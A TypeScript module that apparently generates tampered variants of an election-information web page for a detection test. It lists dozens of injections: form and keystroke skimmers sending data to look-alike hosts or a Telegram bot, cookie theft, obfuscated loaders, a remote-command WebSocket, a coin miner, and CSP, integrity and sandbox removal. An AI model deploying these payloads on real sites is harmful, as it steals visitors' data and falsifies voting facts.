// Changes of code and of what HTTP says about a page.
import { raw, every, head, tail, header, bytes, turn, twin, ownFile } from './attack.ts'
import type { Change } from './attack.ts'
import { hash, word, HEX, B64 } from './draw.ts'

const SKIM = (host: string) =>
  `document.addEventListener("submit",function(e){try{navigator.sendBeacon("https://${host}/c",new FormData(e.target))}catch(_){}},true);`

export const ATTACKS_C: Change[] = [
  // [loader-host] The host within a known loader exchanged for one that looks like it.
  {
    id: 'loader-host',
    class: 'code',
    do: (a) => {
      every(a, 'https://www.googletagmanager.com/', 'https://www.googletagmanaqer.example/')
      every(a, "u+'matomo.js'", '"https://cdn.matomo-stats.example/matomo.js"')
    },
  },
  // [container-added] The known tag manager with the container of somebody else.
  {
    id: 'container-added',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-${word(7, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil')}"></script>`,
      ),
  },
  // [account-exchanged] The account of the known analytics exchanged.
  {
    id: 'account-exchanged',
    class: 'code',
    do: (a, s) => {
      every(a, s.ga, 'G-' + word(10, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil'))
      every(a, s.gtm, 'GTM-' + word(7, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil'))
    },
  },
  // [import-map] An import map that leads a known name to another host.
  {
    id: 'import-map',
    class: 'code',
    do: (a, s) =>
      raw(
        a,
        '<meta name="viewport"',
        `<script type="importmap">{"imports":{"vue":"https://esm.${twin(s)}/vue.js"}}</script>\n<meta name="viewport"`,
      ),
  },
  // [dynamic-import] An inline script that loads a module from elsewhere.
  {
    id: 'dynamic-import',
    class: 'code',
    do: (a, s) =>
      tail(a, `<script type="module">import("https://cdn.${twin(s)}/m.js").catch(()=>{})</script>`),
  },
  // [inline-skimmer] An inline script that copies what is typed.
  {
    id: 'inline-skimmer',
    class: 'code',
    do: (a, s) => tail(a, `<script>${SKIM('collect.' + twin(s))}</script>`),
  },
  // [skimmer-in-known] The same, within a script block that was there before.
  {
    id: 'skimmer-in-known',
    class: 'code',
    do: (a, s) => {
      if (a.html.includes('<script>')) raw(a, '<script>', '<script>' + SKIM('stat.' + twin(s)))
    },
  },
  // [submit-handler] A handler in the mark-up of the form.
  {
    id: 'submit-handler',
    class: 'code',
    do: (a, s) =>
      raw(
        a,
        'method="post"',
        `method="post" onsubmit="new Image().src='https://px.${twin(s)}/?'+new URLSearchParams(new FormData(this))"`,
      ),
  },
  // [own-script-bytes] The site's own script keeps its address and gets other bytes.
  { id: 'own-script-bytes', class: 'code', do: (a, s) => bytes(a, '.js', SKIM('a.' + twin(s))) },
  // [own-sheet-bytes] The site's own style sheet hides the facts.
  {
    id: 'own-sheet-bytes',
    class: 'code',
    do: (a) => bytes(a, '.css', '#hours,#stations{display:none!important}'),
  },
  // [sheet-exfiltration] A style sheet that sends what is typed, letter by letter.
  {
    id: 'sheet-exfiltration',
    class: 'code',
    do: (a, s) =>
      bytes(
        a,
        '.css',
        'abcdefghij'
          .split('')
          .map(
            (k) => `input[name=fullname][value^=${k}]{background:url(https://px.${twin(s)}/${k})}`,
          )
          .join(''),
      ),
  },
  // [script-loader-bytes] The own script loads another one, hidden in numbers.
  {
    id: 'script-loader-bytes',
    class: 'code',
    do: (a, s) =>
      bytes(
        a,
        '.js',
        `;(function(){var s=document.createElement("script");s.src=String.fromCharCode(${[...`https://cdn.${twin(s)}/x.js`].map((k) => k.charCodeAt(0)).join(',')});document.head.appendChild(s)})();`,
      ),
  },
  // [worker-registered] A service worker of its own.
  {
    id: 'worker-registered',
    class: 'code',
    do: (a) =>
      tail(
        a,
        '<script>navigator.serviceWorker&&navigator.serviceWorker.register("/media/uploads/sw.js",{scope:"/"})</script>',
      ),
  },
  // [speculation-rules] Rules that fetch a foreign page beforehand.
  {
    id: 'speculation-rules',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://${twin(s)}/register"]}]}</script>`,
      ),
  },
  // [prefetch-foreign] A link that fetches a foreign page beforehand.
  {
    id: 'prefetch-foreign',
    class: 'code',
    do: (a, s) => head(a, `<link rel="prefetch" href="https://${twin(s)}/register" as="document">`),
  },
  // [script-link] A link that runs script.
  {
    id: 'script-link',
    class: 'code',
    do: (a, s) =>
      every(a, 'href="/where"', `href="javascript:void(location.href='https://${twin(s)}/where')"`),
  },
  // [source-document] A frame with its page inside the attribute.
  {
    id: 'source-document',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<iframe width="1" height="1" style="border:0" srcdoc="&lt;script src=https://cdn.${twin(s)}/f.js&gt;&lt;/script&gt;"></iframe>`,
      ),
  },
  // [sandbox-removed] A frame loses its sandbox.
  { id: 'sandbox-removed', class: 'code', do: (a) => raw(a, / sandbox="[^"]*"/, '') },
  // [integrity-removed] A library from another host, without its hash.
  {
    id: 'integrity-removed',
    class: 'code',
    do: (a) => {
      a.html = a.html.replace(
        /<script src="https:\/\/(cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|code\.jquery\.com)\/([^"]+)" integrity="[^"]+" crossorigin="anonymous"/,
        (_, _h, p) => `<script src="https://cdn.jsdelivr-assets.example/${p}"`,
      )
    },
  },
  // [integrity-exchanged] The same library at its address, with the hash of other bytes.
  {
    id: 'integrity-exchanged',
    class: 'code',
    do: (a, s) => {
      a.html = a.html.replace(
        /integrity="sha384-[^"]+"/,
        () => `integrity="sha384-${word(64, B64, s.key, 'evil')}"`,
      )
    },
  },
  // [picture-script] A script in a picture.
  {
    id: 'picture-script',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<svg width="0" height="0"><script href="https://cdn.${twin(s)}/s.js"></script></svg>`,
      ),
  },
  // [picture-handler] A picture that fails on purpose.
  {
    id: 'picture-handler',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<img src="x" alt="" width="1" height="1" onerror="fetch('https://px.${twin(s)}/?'+encodeURIComponent(document.cookie))">`,
      ),
  },
  // [other-package] A known host of packages, an unknown package.
  {
    id: 'other-package',
    class: 'code',
    do: (a) =>
      head(
        a,
        '<script src="https://cdn.jsdelivr.net/npm/form-helper-lite@1.0.2/dist/index.min.js" defer></script>',
      ),
  },
  // [evaluated] Code in a long word.
  {
    id: 'evaluated',
    class: 'code',
    do: (a, s) => tail(a, `<script>eval(atob("${word(180, B64, s.key, 'evil')}"))</script>`),
  },
  // [socket] A connection that takes orders.
  {
    id: 'socket',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>new WebSocket("wss://live.${twin(s)}/w").onmessage=function(e){(0,Function)(e.data)()}</script>`,
      ),
  },
  // [font-host] Fonts from another host.
  {
    id: 'font-host',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<link rel="stylesheet" href="https://fonts.gstatics.example/css?family=Inter&k=${word(6, HEX, s.key)}">`,
      ),
  },
  // [sheet-import] A foreign sheet imported in a style block.
  {
    id: 'sheet-import',
    class: 'code',
    do: (a, s) => raw(a, '<style>', `<style>@import url("https://css.${twin(s)}/base.css");`),
  },
  // [old-polyfill] A script of a host that changed hands.
  {
    id: 'old-polyfill',
    class: 'code',
    do: (a) =>
      head(a, '<script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=es6"></script>'),
  },
  // [clipboard] What is copied is exchanged.
  {
    id: 'clipboard',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain","${turn(s.phone)}");e.preventDefault()})</script>`,
      ),
  },
  // [facts-by-script] A script that changes a fact after loading.
  {
    id: 'facts-by-script',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>setTimeout(function(){var e=document.querySelector("#hours p");if(e)e.textContent=${JSON.stringify(s.L.hours(s.L.span(s.open, s.close - 3), s.L.date(s.election)))}},4000)</script>`,
      ),
  },
  // [own-script-moved] The own script is taken from a folder of uploads.
  {
    id: 'own-script-moved',
    class: 'code',
    do: (a) => {
      const f = ownFile(a, '.js')
      if (f) {
        const g = '/media/uploads/' + f.split('/').pop()
        every(a, `src="${f}"`, `src="${g}"`)
        a.files = { ...a.files, [g]: a.files![f]! + SKIM('m.example') }
      }
    },
  },
  // [policy-meta] A policy in the page that allows everything.
  {
    id: 'policy-meta',
    class: 'code',
    do: (a) =>
      raw(
        a,
        '<meta name="viewport"',
        '<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' \'unsafe-eval\' data: blob:"><meta name="viewport"',
      ),
  },
  // [state-prototype] An inline settings object gets a script address.
  {
    id: 'state-prototype',
    class: 'code',
    do: (a, s) => raw(a, '"locale":', `"plugins":["https://cdn.${twin(s)}/p.js"],"locale":`),
  },
  // [miner] A program that digs coins.
  {
    id: 'miner',
    class: 'code',
    do: (a) =>
      tail(a, '<script src="https://coinhive-lib.example/m.min.js" data-throttle="0.7"></script>'),
  },
  // [pixel] A counting picture of one dot that reports the path.
  {
    id: 'pixel',
    class: 'code',
    do: (a, s) =>
      tail(a, `<img src="https://px.${twin(s)}/o.gif?p=${s.type}" width="1" height="1" alt="">`),
  },
  // [key-logger-own] Every key goes to the site's own upload folder.
  {
    id: 'key-logger-own',
    class: 'code',
    do: (a) =>
      tail(
        a,
        '<script>document.addEventListener("keyup",function(e){navigator.sendBeacon("/media/uploads/k.php",e.key)})</script>',
      ),
  },
  // [skimmer-messenger] What is typed goes to a bot of a well-known messenger.
  {
    id: 'skimmer-messenger',
    class: 'code',
    do: (a, s) =>
      tail(
        a,
        `<script>document.addEventListener("submit",function(e){fetch("https://api.telegram.org/bot${hash(s.key, 'bot')}:AA${word(33, HEX, s.key, 'bot')}/sendMessage?chat_id=-100${hash(s.key)}&text="+encodeURIComponent(new URLSearchParams(new FormData(e.target))),{keepalive:true,mode:"no-cors"})},true)</script>`,
      ),
  },
  // [repository-file] A script out of a stranger's repository, by a known host.
  {
    id: 'repository-file',
    class: 'code',
    do: (a, s) =>
      head(
        a,
        `<script src="https://cdn.jsdelivr.net/gh/vote-tools/helper@${word(7, HEX, s.key)}/dist/h.min.js" defer></script>`,
      ),
  },
  // [template-shadow] A template that lays itself over the hours by shadow DOM.
  {
    id: 'template-shadow',
    class: 'code',
    do: (a, s) =>
      raw(
        a,
        ' id="hours">',
        ` id="hours"><template shadowrootmode="open"><p>${s.L.hours(s.L.span(s.open, s.close - 2), s.L.date(s.election))}</p></template>`,
      ),
  },

  // [refresh-header] The header sends the visitor on.
  {
    id: 'refresh-header',
    class: 'http',
    do: (a, s) => header(a, 'refresh', `3; url=https://${twin(s)}/`),
  },
  // [link-header] A foreign sheet in a header.
  {
    id: 'link-header',
    class: 'http',
    do: (a, s) => header(a, 'link', `<https://css.${twin(s)}/base.css>; rel=stylesheet`),
  },
  // [disposition] The page is offered for download.
  {
    id: 'disposition',
    class: 'http',
    do: (a) => header(a, 'content-disposition', 'attachment; filename="form.html"'),
  },
  // [text-plain] The page shows its source.
  {
    id: 'text-plain',
    class: 'http',
    do: (a) => header(a, 'content-type', 'text/plain; charset=utf-8'),
  },
  // [odd-charset] Another character set.
  {
    id: 'odd-charset',
    class: 'http',
    do: (a) => header(a, 'content-type', 'text/html; charset=utf-7'),
  },
  // [policy-gone] The policy about foreign code is gone.
  {
    id: 'policy-gone',
    class: 'http',
    do: (a) => {
      const { 'content-security-policy': gone, ...rest } = a.headers ?? {}
      if (gone) a.headers = rest
    },
  },
  // [refresh-meta] The page sends the visitor on after a while.
  {
    id: 'refresh-meta',
    class: 'http',
    do: (a, s) =>
      raw(
        a,
        '<meta charset="utf-8">',
        `<meta charset="utf-8">\n<meta http-equiv="refresh" content="20;url=https://${twin(s)}/">`,
      ),
  },
  // [policy-opened] The policy allows one more host.
  {
    id: 'policy-opened',
    class: 'http',
    do: (a, s) => {
      const p = a.headers?.['content-security-policy']
      if (p)
        header(
          a,
          'content-security-policy',
          p + `; script-src 'self' 'unsafe-inline' https://cdn.${twin(s)}`,
        )
    },
  },
  // [robots-header] Search engines are told to forget the page.
  { id: 'robots-header', class: 'http', do: (a) => header(a, 'x-robots-tag', 'noindex, nofollow') },
  // [report-to] Errors are reported to a foreign host.
  {
    id: 'report-to',
    class: 'http',
    do: (a, s) => {
      header(a, 'reporting-endpoints', `default="https://rep.${twin(s)}/r"`)
    },
  },
  // [preload-header] A foreign script fetched by a header.
  {
    id: 'preload-header',
    class: 'http',
    do: (a, s) => header(a, 'link', `<https://cdn.${twin(s)}/v.js>; rel=modulepreload`),
  },
  // [worker-allowed] A worker may rule the whole site.
  {
    id: 'worker-allowed',
    class: 'http',
    do: (a) => {
      header(a, 'service-worker-allowed', '/')
      raw(a, '</body>', '<script src="/media/uploads/reg.js" async></script>\n</body>')
    },
  },
]
